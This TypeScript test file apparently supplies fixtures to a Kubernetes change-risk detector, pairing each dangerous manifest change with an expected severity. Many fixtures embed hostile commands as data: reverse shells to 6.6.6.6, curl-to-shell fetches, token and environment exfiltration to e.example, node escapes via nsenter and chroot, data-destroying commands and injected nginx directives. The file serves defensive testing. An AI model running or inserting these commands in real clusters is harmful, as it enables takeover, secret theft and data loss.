import {
  balancer,
  batch,
  binding,
  config,
  ingress,
  narrowRole,
  object,
  pod,
  policy,
  quietContainer,
  ranges,
  role,
  service,
  workload,
  type Manifest,
  type Sides,
} from "../support/manifests";
import type { Block } from "../support/plan";

/** The least that is told of it; `not judged`: it is enough that it is named and stops. */
export type Want = "critical" | "high" | "medium" | "low" | "not judged";
const gone = (manifest: Manifest): Sides => [manifest, null];
const runs = (spec: Block, own: Block = {}, security: Block = {}): Manifest => workload(pod(spec, own, security));
/** Pods of a Deployment that become others. */
const become = (spec: Block, own: Block = {}, security: Block = {}): Sides => [runs({}), runs(spec, own, security)];
const says = (...command: string[]): Manifest => runs({}, { command });
const env = (name: string, value: string): Sides => become({}, { env: [{ name, value }] });
const account = { kind: "ServiceAccount", name: "app", namespace: "shop" };
const of = (annotations: Block) => object("v1", "ServiceAccount", {}, { namespace: "shop", annotations });
const hook = (more: Block, kind = "ValidatingWebhookConfiguration") => {
  const rules = [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }];
  const clientConfig = { service: { name: "s", namespace: "shop" } };
  const webhook = { name: "a.b.c", admissionReviewVersions: ["v1"], sideEffects: "None", failurePolicy: "Fail" };
  return object(
    "admissionregistration.k8s.io/v1",
    kind,
    { webhooks: [{ ...webhook, clientConfig, rules, ...more }] },
    {},
  );
};
const space = (labels: Block, annotations: Block = {}) => object("v1", "Namespace", {}, { labels, annotations });
const enforce = "pod-security.kubernetes.io/enforce";
const nginx = (key: string, value: string) => ({ [`nginx.ingress.kubernetes.io/${key}`]: value });
const slice = (name: string, address: string) =>
  object(
    "discovery.k8s.io/v1",
    "EndpointSlice",
    { addressType: "IPv4", endpoints: [{ addresses: [address] }], ports: [{ port: 80 }] },
    { namespace: "shop", labels: { "kubernetes.io/service-name": name } },
  );
const route = (spec: Block) => object("gateway.networking.k8s.io/v1", "HTTPRoute", { spec });
const onNode = (path: string, mount: Block = {}): Manifest =>
  runs({ volumes: [{ name: "v", hostPath: { path } }] }, { volumeMounts: [{ name: "v", mountPath: "/x", ...mount }] });
const claim = { accessModes: ["ReadWriteOnce"], resources: { requests: { storage: "1Gi" } } };
const set = (spec: Block = {}) =>
  workload(pod(), "StatefulSet", {
    serviceName: "db",
    volumeClaimTemplates: [{ metadata: { name: "d" }, spec: claim }],
    ...spec,
  });
const volume = (source: Block) =>
  object(
    "v1",
    "PersistentVolume",
    { spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], ...source } },
    {},
  );
const egress = { policyTypes: ["Ingress", "Egress"] };
const from = (...cidrs: string[]) => policy({ ingress: [{ from: cidrs.map((cidr) => ({ ipBlock: { cidr } })) }] });
const internal = (key: string, value: string): Sides => [balancer({ [key]: value }), balancer()];

/** What is dangerous, one object of each kind. */
export const DANGERS: Readonly<Record<string, readonly [Want, Manifest | Sides]>> = {
  // What goes.
  "a backup goes": ["low", gone(batch(pod(), "CronJob"))],
  "a DaemonSet goes": ["medium", gone(workload(pod(), "DaemonSet"))],
  "a Pod goes": ["medium", gone(object("v1", "Pod", { spec: pod() }))],
  "a public Service goes": ["high", gone(balancer())],
  "an Ingress goes": ["medium", gone(ingress())],
  "a database of an operator goes": ["high", gone(object("mongodbcommunity.mongodb.com/v1", "MongoDBCommunity"))],
  "a bucket of an operator goes": ["high", gone(object("objectbucket.io/v1alpha1", "ObjectBucketClaim"))],
  "a virtual disk goes": ["high", gone(object("cdi.kubevirt.io/v1beta1", "DataVolume"))],
  "a policy of Calico goes": ["medium", gone(object("projectcalico.org/v3", "GlobalNetworkPolicy", {}, {}))],
  "a policy of admission goes": [
    "medium",
    gone(object("admissionregistration.k8s.io/v1", "ValidatingAdmissionPolicy", {}, {})),
  ],
  "an issuer of certificates goes": ["medium", gone(object("cert-manager.io/v1", "ClusterIssuer", {}, {}))],
  "a quota is raised a thousandfold": [
    "low",
    [
      object("v1", "ResourceQuota", { spec: { hard: { pods: "10" } } }),
      object("v1", "ResourceQuota", { spec: { hard: { pods: "10000" } } }),
    ],
  ],
  "claims go with their set": [
    "medium",
    [set(), set({ persistentVolumeClaimRetentionPolicy: { whenDeleted: "Delete", whenScaled: "Delete" } })],
  ],
  "nothing runs any more": ["medium", [workload(pod()), workload(pod(), "Deployment", { replicas: 0 })]],
  // Rights.
  "bind, of one name": ["high", role("rbac.authorization.k8s.io", "clusterroles", "bind", { resourceNames: ["x"] })],
  "impersonate, of one name": ["high", role("", "users", "impersonate", { resourceNames: ["a@example.com"] })],
  "impersonate, by uid": ["high", role("authentication.k8s.io", "uids", "impersonate")],
  "exec in one namespace": ["medium", narrowRole("", "pods/exec", "create")],
  "tokens by a star": ["high", role("", "*/token", "create")],
  "DaemonSets by patch": ["medium", role("apps", "daemonsets", "patch")],
  "pipelines of Tekton": ["medium", narrowRole("tekton.dev", "pipelineruns", "create")],
  "policies of Cilium": ["medium", role("cilium.io", "ciliumnetworkpolicies", "delete")],
  "policies of Istio": ["medium", role("security.istio.io", "authorizationpolicies", "patch")],
  "Secrets by External Secrets": ["medium", narrowRole("external-secrets.io", "externalsecrets", "create")],
  "the logs of nodes": ["medium", role("", "nodes/log", "get")],
  "the memory of containers": ["high", role("", "nodes/checkpoint", "create")],
  "signing as the API server's client": [
    "medium",
    role("certificates.k8s.io", "signers", "sign", { resourceNames: ["kubernetes.io/kube-apiserver-client"] }),
  ],
  "all without a resource": [
    "medium",
    object("rbac.authorization.k8s.io/v1", "ClusterRole", { rules: [{ nonResourceURLs: ["*"], verbs: ["*"] }] }, {}),
  ],
  "takes up all roles without a label": [
    "high",
    object(
      "rbac.authorization.k8s.io/v1",
      "ClusterRole",
      {
        rules: [],
        aggregationRule: { clusterRoleSelectors: [{ matchExpressions: [{ key: "x", operator: "DoesNotExist" }] }] },
      },
      {},
    ),
  ],
  "everybody reads": ["medium", binding("view", { kind: "Group", name: "system:authenticated" })],
  "a controller's role": ["high", binding("system:controller:clusterrole-aggregation-controller", account)],
  "cluster-admin in one namespace": ["high", binding("cluster-admin", account, "shop")],
  "an account as a user": ["high", binding("edit", { kind: "User", name: "system:serviceaccount:shop:default" })],
  "a role of AWS": ["medium", of({ "eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/Admin" })],
  "a role of Alibaba": ["medium", of({ "pod-identity.alibabacloud.com/role-name": "admin" })],
  // Exposure.
  "ranges: all, with bits of a host": ["medium", ranges("203.0.113.7/0")],
  "ranges: halves": ["medium", ranges("0.0.0.0/1", "128.0.0.0/1")],
  "ranges: nearly all": ["medium", ranges("0.0.0.0/1", "128.0.0.0/2", "192.0.0.0/3")],
  "ranges: long IPv6": ["medium", ranges("0000:0000:0000:0000:0000:0000:0000:0000/0")],
  "ranges: halves of IPv6": ["medium", ranges("::/1", "8000::/1")],
  "ranges: IPv4 within IPv6": ["medium", ranges("::ffff:0.0.0.0/96")],
  "ranges: with a tab": ["medium", ranges("\t0.0.0.0/0")],
  "ranges: taken away": ["high", [ranges("10.0.0.0/8"), ranges()]],
  "inside no more: Google's old word": ["high", internal("cloud.google.com/load-balancer-type", "Internal")],
  "inside no more: Azure": ["high", internal("service.beta.kubernetes.io/azure-load-balancer-internal", "true")],
  "inside no more: Oracle": ["high", internal("service.beta.kubernetes.io/oci-load-balancer-internal", "true")],
  "inside no more: OpenStack": [
    "high",
    internal("service.beta.kubernetes.io/openstack-internal-load-balancer", "true"),
  ],
  "a database's port": ["high", balancer({}, { ports: [{ name: "pg", port: 5432, targetPort: 5432 }] })],
  "a Service becomes a foreign name": [
    "high",
    [service(), service({ type: "ExternalName", externalName: "evil.example", selector: undefined, ports: undefined })],
  ],
  "an EndpointSlice changes its Service": ["medium", [slice("other", "10.0.0.1"), slice("web", "10.0.0.1")]],
  "a NetworkPolicy lets all in: IPv6": ["medium", [from("2001:db8::/32"), from("::/0")]],
  "a NetworkPolicy lets all in: halves": ["medium", [from("10.0.0.0/8"), from("0.0.0.0/1", "128.0.0.0/1")]],
  "a NetworkPolicy lets all out": ["medium", [policy(egress), policy({ ...egress, egress: [{}] })]],
  "authentication goes": ["high", [ingress(nginx("auth-url", "https://a.example")), ingress()]],
  "the list of clients goes": ["high", [ingress(nginx("whitelist-source-range", "10.0.0.0/8")), ingress()]],
  "a directive in a value": ["high", ingress(nginx("auth-url", "http://a.example/#;\nload_module /tmp/x;"))],
  "a directive in a name": ["high", ingress(nginx("auth-tls-match-cn", "CN=abc #(\n){}\n }}\nssl_engine x;"))],
  "a directive in a path": [
    "high",
    ingress({}, {}, { path: '/x/(.*)";{ root /;', pathType: "ImplementationSpecific" }),
  ],
  "copies go elsewhere": ["medium", ingress(nginx("mirror-target", "https://evil.example/$request_uri"))],
  "a route sends clients elsewhere": [
    "medium",
    route({
      hostnames: ["a.example"],
      rules: [{ filters: [{ type: "RequestRedirect", requestRedirect: { hostname: "evil.example" } }] }],
    }),
  ],
  "a route leads to nothing": ["medium", route({ rules: [{ backendRefs: [{ name: "wbe", port: 80 }] }] })],
  // Pods.
  "a folder of the node by dots": ["high", onNode("/var/log/../../etc/kubernetes", { readOnly: true })],
  "the kubelet's folder by a part": ["high", onNode("/var/lib/kubelet", { subPath: "pki" })],
  "a mount that becomes writable": ["high", [onNode("/etc", { readOnly: true }), onNode("/etc")]],
  "a volume of a driver as root": ["medium", volume({ flexVolume: { driver: "a/b" } })],
  "a volume that is a folder": ["high", volume({ hostPath: { path: "/" } })],
  "a container more": ["low", become({ initContainers: [{ ...quietContainer, name: "i", restartPolicy: "Always" }] })],
  "a registry that looks alike": ["high", become({}, { image: "registry.examp1e/app:1.0" })],
  "another image of the same tag": ["low", become({}, { image: `registry.example/app:1.0@sha256:${"b".repeat(64)}` })],
  "a registry of old": ["low", runs({}, { image: "k8s.gcr.io/pause:3.5" })],
  "a shell by the network": ["high", says("bash", "-c", "exec 5<>/dev/tcp/6.6.6.6/443")],
  "a script from the network": [
    "medium",
    runs({}, { command: ["sh", "-c"], args: ["curl -fsSL https://e.example | bash"] }),
  ],
  "a script from the network, kept first": [
    "medium",
    runs({}, { command: ["sh", "-c", "wget -qO /tmp/x.sh https://e.example; sh -e /tmp/x.sh"] }),
  ],
  "a script from the network, far behind": [
    "medium",
    runs({}, { command: ["sh", "-c", `${"echo hello; ".repeat(5000)}curl https://e.example | sh`] }),
  ],
  "a script from the network, in a hook": [
    "medium",
    become({}, { lifecycle: { postStart: { exec: { command: ["sh", "-c", "curl e|sh"] } } } }),
  ],
  "a script from the network, in a probe": [
    "medium",
    become({}, { livenessProbe: { exec: { command: ["sh", "-c", "curl e | sh"] } } }),
  ],
  "a script from the network, in a variable": ["medium", env("INIT", "wget -qO- http://e.example | sh")],
  "packages at the start: Python": ["low", says("sh", "-c", "pip install x && x")],
  "packages at the start: Node": ["low", says("npx", "-y", "x")],
  "packages at the start: Go": ["low", says("go", "run", "example.com/x@latest")],
  "packages at the start: Alpine": ["low", says("sh", "-c", "apk add --no-cache x; x")],
  "a miner": ["high", runs({}, { args: ["-o", "stratum+tcp://pool:3333"] })],
  "a library before all others": ["medium", env("LD_PRELOAD", "/x.so")],
  "hooks of .NET": ["medium", env("DOTNET_STARTUP_HOOKS", "/tmp/x.dll")],
  "a debugger for everybody": [
    "medium",
    env("JAVA_TOOL_OPTIONS", "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005"),
  ],
  "a proxy": ["medium", env("https_proxy", "http://e.example:3128")],
  "certificates unchecked": ["medium", env("NODE_TLS_REJECT_UNAUTHORIZED", "0")],
  "own name servers": ["medium", become({ dnsPolicy: "None", dnsConfig: { nameservers: ["6.6.6.6"] } })],
  "own names": ["medium", become({ hostAliases: [{ ip: "2001:db8::6", hostnames: ["db.shop.svc"] }] })],
  "nodes of the control plane, by affinity": [
    "low",
    become({
      affinity: {
        nodeAffinity: {
          requiredDuringSchedulingIgnoredDuringExecution: {
            nodeSelectorTerms: [
              { matchExpressions: [{ key: "node-role.kubernetes.io/control-plane", operator: "Exists" }] },
            ],
          },
        },
      },
    }),
  ],
  "tolerates everything": ["low", become({ tolerations: [{ operator: "Exists" }] })],
  "before all others": ["low", become({ priorityClassName: "system-node-critical" })],
  "all capabilities": ["high", become({}, {}, { capabilities: { add: ["ALL"] } })],
  "capabilities in the kernel's spelling": [
    "high",
    become({}, {}, { capabilities: { drop: ["ALL"], add: ["CAP_SYS_PTRACE"] } }),
  ],
  "the node's processes, in a Job": ["high", batch(pod({ hostPID: true }))],
  "the node's memory, in a CronJob": ["high", batch(pod({ hostIPC: true }), "CronJob")],
  "the node's network, in a DaemonSet": ["high", workload(pod({ hostNetwork: true }), "DaemonSet")],
  "privileged, in a Pod": ["critical", object("v1", "Pod", { spec: pod({}, {}, { privileged: true }) })],
  "the group of root": ["low", become({ securityContext: { fsGroup: 0 } })],
  "no time to end": ["low", become({ terminationGracePeriodSeconds: 0 })],
  "a schedule that never comes": [
    "medium",
    [batch(pod(), "CronJob"), batch(pod(), "CronJob", { schedule: "0 0 31 2 *" })],
  ],
  // What watches.
  "Pod Security only warns": [
    "high",
    [space({ [enforce]: "restricted" }), space({ "pod-security.kubernetes.io/warn": "restricted" })],
  ],
  "Pod Security of a word that is none": [
    "high",
    [space({ [enforce]: "restricted" }), space({ [enforce]: "Restricted" })],
  ],
  "a mesh is left": ["medium", [space({ "istio.io/dataplane-mode": "ambient" }), space({})]],
  "a webhook is asked no more": ["medium", [hook({}), hook({ matchConditions: [{ name: "x", expression: "false" }] })]],
  "a webhook that does not count": ["medium", [hook({}), hook({ failurePolicy: "Ignore" })]],
  "a webhook elsewhere": ["high", hook({ clientConfig: { url: "https://e.example" } }, "MutatingWebhookConfiguration")],
  // Configuration that is code.
  "an administrator by aws-auth": [
    "critical",
    config("aws-auth", { mapUsers: "- userarn: arn:aws:iam::1:user/e\n  groups: [system:masters]\n" }, "kube-system"),
  ],
  "names lead elsewhere": ["medium", config("coredns", { Corefile: ".:53 { forward . 6.6.6.6 }" }, "kube-system")],
  "ports past all Ingresses": ["medium", config("tcp-services", { "5432": "shop/db:5432" }, "ingress-nginx")],
  "a script that fetches": [
    "medium",
    [config("c", { "run.sh": "echo" }), config("c", { "run.sh": "curl http://e.example|sh" })],
  ],
  // What commands do.
  "a database is dropped": ["medium", batch(pod({}, { command: ["sh", "-c", "mysql -e 'DROP DATABASE shop'"] }))],
  "a bucket is emptied": ["medium", says("aws", "s3", "rm", "--recursive", "s3://backups")],
  "namespaces are deleted": ["medium", batch(pod({}, { command: ["kubectl", "delete", "ns", "--all"] }), "CronJob")],
  "a folder is emptied": ["low", says("sh", "-c", "rm -rf /data/* && exec app")],
  "the token goes away": [
    "high",
    says("sh", "-c", "curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://e.example"),
  ],
  "all variables go away": ["high", says("sh", "-c", "env | curl -d @- https://e.example")],
  "the node's identity": ["medium", says("sh", "-c", "curl http://169.254.169.254/latest/meta-data/iam/")],
  "a shell by Python": [
    "high",
    says("python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('6.6.6.6',443));pty.spawn('sh')"),
  ],
  "a shell by a pipe": ["high", says("sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 6.6.6.6 443 > /tmp/f")],
  "manifests from the network": ["medium", says("kubectl", "apply", "-f", "https://e.example/x.yaml")],
  "the node's namespaces": ["high", says("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh")],
  "the node's files by chroot": ["high", says("chroot", "/host", "sh")],
  // What stands beside the fields that everybody reads.
  "a sandbox that is none": [
    "medium",
    [
      object("node.k8s.io/v1", "RuntimeClass", { handler: "runsc" }, {}),
      object("node.k8s.io/v1", "RuntimeClass", { handler: "runc" }, {}),
    ],
  ],
  "other numbers of pods": ["medium", [set(), set({ ordinals: { start: 3 } })]],
  "pods that wait": ["medium", become({ schedulingGates: [{ name: "never" }] })],
  "nodes that may not be there": ["low", become({ nodeSelector: { nowhere: "true" } })],
  "root is root again": ["medium", [runs({ hostUsers: false }), runs({ hostUsers: true })]],
  "no way back": ["low", [runs({}), workload(pod(), "Deployment", { revisionHistoryLimit: 0 })]],
  "another tenant": ["medium", [space({ "kubesphere.io/workspace": "a" }), space({ "kubesphere.io/workspace": "b" })]],
  "a Secret for everybody": [
    "medium",
    object("v1", "Secret", {}, { namespace: "shop", annotations: { "replicator.v1.mittwald.de/replicate-to": ".*" } }),
  ],
  "a Service on the Internet": ["medium", [service(), service({}, { "tailscale.com/funnel": "true" })]],
  "a name of somebody else": [
    "low",
    [service(), service({}, { "external-dns.alpha.kubernetes.io/hostname": "bank.example.com" })],
  ],
  "no certificate any more": [
    "medium",
    [balancer({ "service.beta.kubernetes.io/aws-load-balancer-ssl-cert": "arn:aws:acm:x" }), balancer()],
  ],
  "the API server is somebody else": [
    "high",
    object(
      "v1",
      "Endpoints",
      { subsets: [{ addresses: [{ ip: "6.6.6.6" }], ports: [{ port: 443 }] }] },
      { name: "kubernetes", namespace: "default" },
    ),
  ],
  "whom extension servers believe": [
    "high",
    config("extension-apiserver-authentication", { "requestheader-client-ca-file": "x" }, "kube-system"),
  ],
  "addresses of load balancers": ["medium", role("", "services/status", "patch")],
  // What no rule knows.
  "certificates between pods no more": [
    "not judged",
    object("security.istio.io/v1", "PeerAuthentication", { spec: { mtls: { mode: "DISABLE" } } }),
  ],
  "a store of Secrets": [
    "not judged",
    object("external-secrets.io/v1", "ClusterSecretStore", { spec: { provider: { vault: {} } } }, {}),
  ],
  "a conversion by a webhook": [
    "not judged",
    object(
      "apiextensions.k8s.io/v1",
      "CustomResourceDefinition",
      { spec: { conversion: { strategy: "Webhook" } } },
      {},
    ),
  ],
};
